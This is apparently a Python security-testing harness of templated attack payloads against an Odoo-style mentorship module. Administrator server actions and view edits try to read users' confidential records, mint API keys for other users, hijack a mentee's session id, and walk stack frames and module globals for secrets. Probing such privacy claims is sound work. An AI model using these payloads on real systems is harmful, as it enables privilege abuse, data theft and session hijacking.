"""Code an administrator can write into a database, and what it tries to take.

Each thief puts what it finds into the comment of a contact, its loot.
"""

PRELUDE = """
def keep(what):
    text = str(what).replace(chr(0), "")
    env.cr.execute(
        "UPDATE res_partner SET comment = concat(comment, ' ', %s::text) WHERE id = %s",
        [text, {loot}],
    )

def attempt(function):
    env.cr.execute("SAVEPOINT thief")
    try:
        keep(function())
    except Exception as error:
        env.cr.execute("ROLLBACK TO SAVEPOINT thief")
        keep("no: " + repr(error))

core = env["res.partner"].sudo().browse({core})
ours = [name for name in {models} if not env[name]._abstract]
"""

SUDO = """
for name in ours:
    records = env[name].sudo().search([])
    attempt(lambda: records.read())
    attempt(lambda: records.export_data(list(records.fields_get()))["datas"])
    attempt(lambda: [record.copy_data() for record in records])
attempt(lambda: core.read())
"""

AS_MENTEE = """
for name in ours:
    own = env[name].with_user({mentee})
    attempt(lambda: own.search([]).read())
    attempt(lambda: own.search_read([]))
    attempt(lambda: [r.ciphertext for r in own.sudo().search([])])
attempt(lambda: core.with_user({mentee}).sudo().read(["comment"]))
"""

SQL = """
for name in [*(name for name in ours if env[name]._auto), "res.partner"]:
    env.cr.execute("SELECT to_jsonb(t) FROM %s t" % env[name]._table)
    for row in env.cr.fetchall():
        if name != "res.partner" or row[0]["id"] == {core}:
            keep(row)
"""

UNDERSCORE = """
def call(function):
    env.cr.execute("SAVEPOINT thief")
    text = ""
    try:
        found = function()
        text = str(found)
        text += str(found.sudo().read())
    except Exception as error:
        text += " no: " + repr(error)
    env.cr.execute("ROLLBACK TO SAVEPOINT thief")
    env.invalidate_all(flush=False)
    keep(text)

{lines}
keep(core.comment)
"""

ROUTES = """
keep(" ".join(rule.rule for rule in env["ir.http"].routing_map().iter_rules()))
"""

API_KEYS = """
for user in {users}:
    keys = env["res.users.apikeys"].with_user(user).sudo()
    keep("%s=%s" % (user, keys._generate(None, "sweep", None)))
"""

REACH = """
box = []
template = env["ir.ui.view"].sudo().search([("key", "=", "sweep.reach")])
attempt(lambda: env["ir.qweb"].sudo()._render(template.id, {{"box": box}}))
request = box[0]
rules = [
    rule
    for rule in env["ir.http"].routing_map().iter_rules()
    if rule.rule.startswith(("/my/mentorship", "/mentorship/room/api"))
]
rooms = [r for r in rules if r.rule == "/mentorship/room/api/room"]

def taken(answer):
    return answer.get_data()
"""
"""Gets hold of the request through a template, because a server action does not have
it."""

ENDPOINTS = """
been = env.cr.precommit.data
for rule in [] if been.get("thief") else rules:
    been["thief"] = True
    names = [word.split(":")[-1].split(">")[0] for word in rule.rule.split("<")[1:]]
    values = {{name: {record} for name in names}}
    attempt(lambda: taken(rule.endpoint(**values)))
keep(core.comment)
"""
"""Calls the function of each page once; saving a text runs this code again."""

OTHER_SESSION = """
keep(core.comment)
request.update_env(user={mentee})
request.session.update({{"uid": {mentee}, "login": "x"}})
attempt(lambda: taken(rooms[0].endpoint()))
"""

AGAIN = """
keep(core.comment)
attempt(lambda: request.reroute("/mentorship/room/api/me"))
attempt(lambda: taken(request._serve_db()))
"""
"""Has the server answer another request within this one. That request must write
nothing, because it would then wait for this one for ever."""

REQUEST = """
attempt(lambda: request.params)
attempt(lambda: request.get_http_params())
attempt(lambda: request.httprequest.form)
attempt(lambda: request.httprequest.values)
attempt(lambda: [f.read() for f in request.httprequest.files.getlist("files")])
attempt(lambda: request.httprequest.data)
attempt(lambda: request.httprequest.get_data())
attempt(lambda: request.httprequest.stream.read())
attempt(lambda: request.httprequest.environ["wsgi.input"].read())
attempt(lambda: request.httprequest.environ)
attempt(lambda: request.session)
attempt(lambda: env.context)
attempt(lambda: env.cr.precommit.data)
keep(core.comment)
"""

RECORDS = """
attempt(lambda: records.sudo().read())
attempt(lambda: [record.sudo()._cache for record in records])
attempt(lambda: [dict(record.sudo()._cache) for record in records])
keep(core.comment)
"""

LATER = """
answers = map(lambda rule: rule.endpoint(), rooms)
late = request.make_response(map(lambda a: keep(a.get_data()) or b"", answers))
env.cr.precommit.add(late.get_data)
keep(core.comment)
"""
"""Makes a room respond only after this code has finished."""

GLOBALS = """
way, request_way = env["mentorship.identity.way"]._to_open, env["ir.http"]._match
for path in (
    "{{0.__globals__[keys].__dict__}}",
    "{{0.__globals__[keys]._of_variable._keys}}",
    "{{0.__globals__[keys].masters.__globals__}}",
    "{{0.__globals__[keys].seal.Secret.__dict__}}",
    "{{0.__globals__[keys].b64decode.__globals__}}",
    "{{1.__globals__[taking].__dict__}}",
    "{{1.__globals__[taking]._taken}}",
    "{{1.__globals__[taking].sys.modules[os].environ}}",
):
    attempt(lambda: path.format(way, request_way))
attempt(lambda: "{{0.comment}}".format(core))
"""
"""Walks from a method to the globals of its module, by the names in a format string."""

FRAMES = """
wanted = (
    "",
    "[master]",
    "[here]._keys",
    "[masters]._keys",
    "[sent]",
    "[sealed]",
    "[body]",
    "[texts]",
    "[self].headers",
    "[environ]",
)

def climb():
    try:
        raise Exception()
    except Exception as error:
        for step in range(80):
            place = "{{0.__traceback__.tb_frame" + ".f_back" * step + ".f_locals"
            for what in wanted:
                try:
                    keep((place + what + "}}").format(error))
                except Exception:
                    keep("no")

climb()
keep(core.comment)
"""
"""Walks up the stack to the callers' variables."""

SESSION = """
attempt(lambda: "sid=" + request.session.sid + "=")
keep(core.comment)
"""
"""Copies the member's session for the thief's own browser."""

IN_OWN_REQUEST = {
    "its records": RECORDS,
    "the request": REACH + REQUEST,
    "the pages' functions": REACH + ENDPOINTS,
    "the same, later": REACH + LATER,
    "a request within": REACH + AGAIN,
    "what modules hold": GLOBALS,
    "what callers hold": FRAMES,
    "the session": REACH + REQUEST + FRAMES + SESSION,
}
"""{target of an automation that runs in the mentee's request: code}."""

IN_ADMIN_REQUEST = {
    "sudo": SUDO,
    "as the mentee": AS_MENTEE,
    "SQL": SQL,
    "the pages' functions": REACH + ENDPOINTS,
    "another session": REACH + OTHER_SESSION,
    "a request within": REACH + AGAIN,
    "the same, later": REACH + LATER,
    "what modules hold": GLOBALS,
    "what callers hold": FRAMES,
}
"""{target of a server action that the administrator runs: code}."""

WRITE = "request.env['res.partner'].sudo().browse({loot}).write({{'comment': {what}}})"

ON_PAGE = {
    "what a page knows": "str([pairing, room, people, terms])",
    "the request": "str([request.params, request.httprequest.form, "
    "request.httprequest.get_data()])",
    "the pages' functions": "str([rule.endpoint().get_data() for rule in"
    " request.env['ir.http'].routing_map().iter_rules()"
    " if rule.rule == '/mentorship/room/api/room'])",
    "what modules hold": "'{{0.__globals__[keys].__dict__}}'.format("
    "request.env['mentorship.identity.way']._to_open)",
    "core": "str(request.env['res.partner'].sudo().browse({core}).comment)",
}
"""{target of a changed view of a pairing: expression}."""

ON_PAGE_LATER = (
    "[request.env.cr.precommit.add(late.get_data)"
    " for data in [request.env.cr.precommit.data] if not data.get('late')"
    " for late in [request.make_response(map(lambda answer: "
    + WRITE.replace("{what}", "str(answer.get_data())")
    + " and b'', map(lambda rule: rule.endpoint(), [rule"
    " for rule in request.env['ir.http'].routing_map().iter_rules()"
    " if rule.rule == '/mentorship/room/api/room'])))]"
    " if not data.update({{'late': True}})]"
)

REACH_VIEW = (
    "<t t-name='sweep.reach'><t t-set='found' t-value='box.append(request)'/></t>"
)
